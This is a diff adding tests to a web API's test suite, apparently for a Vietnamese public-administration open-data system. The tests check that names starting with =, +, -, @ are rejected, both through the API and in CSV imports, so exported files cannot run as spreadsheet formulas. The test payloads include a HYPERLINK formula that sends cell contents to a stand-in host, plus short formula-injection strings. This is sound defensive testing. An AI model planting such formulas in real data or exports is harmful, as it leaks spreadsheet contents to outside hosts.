@@ -117,6 +117,46 @@ describe('dates and instants', () => {
   });
 });
 
+describe('names that a spreadsheet would run as formulas (open data)', () => {
+  const FORMULA = '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")';
+
+  it('a unit, a category or a questionnaire cannot be named like a formula', async () => {
+    const unit = await call(t.app, admin, 'POST', '/api/v1/units', {
+      code: 'X3',
+      name: FORMULA,
+      type: 'commune',
+      parentCode: 'T',
+    });
+    expect(unit.status).toBe(400);
+    expect((await json(unit)).error).toMatchObject({
+      code: 'VALIDATION_FAILED',
+      message: expect.stringContaining('name: Tên không được bắt đầu bằng =, +, -, @'),
+      details: { fields: [{ field: 'name' }] },
+    });
+    const rename = await call(t.app, admin, 'PATCH', '/api/v1/units/A', { name: '+1+cmd' });
+    expect(rename.status).toBe(400);
+    const category = await call(t.app, admin, 'POST', '/api/v1/feedback/categories', {
+      code: 'RAC',
+      name: '@SUM(A1)',
+      unitCode: 'A',
+    });
+    expect(category.status).toBe(400);
+    expect((await json(category)).error.message).toContain('name');
+  });
+
+  it('a units file with such a name is refused whole, naming the line', async () => {
+    const res = await t.app.request('/api/v1/units/import', {
+      method: 'POST',
+      headers: { ...admin.headers, 'content-type': 'text/csv' },
+      body: `code,name,type,parent_code\nX4,Xã Tốt,commune,T\nX5,"${FORMULA.replace(/"/g, '""')}",commune,T\n`,
+    });
+    expect(res.status).toBe(422);
+    const body = await json<{ error: { details: { lines: { line: number; code: string }[] } } }>(res);
+    expect(body.error.details.lines).toEqual([expect.objectContaining({ line: 3, code: 'NAME_FORMULA' })]);
+    expect((await call(t.app, admin, 'GET', '/api/v1/units/X4')).status).toBe(404);
+  });
+});
+
 describe('the error shape', () => {
   it('an empty measure patch is a 400, not a 500', async () => {
     const created = await call(t.app, admin, 'POST', '/api/v1/plans/measures', {
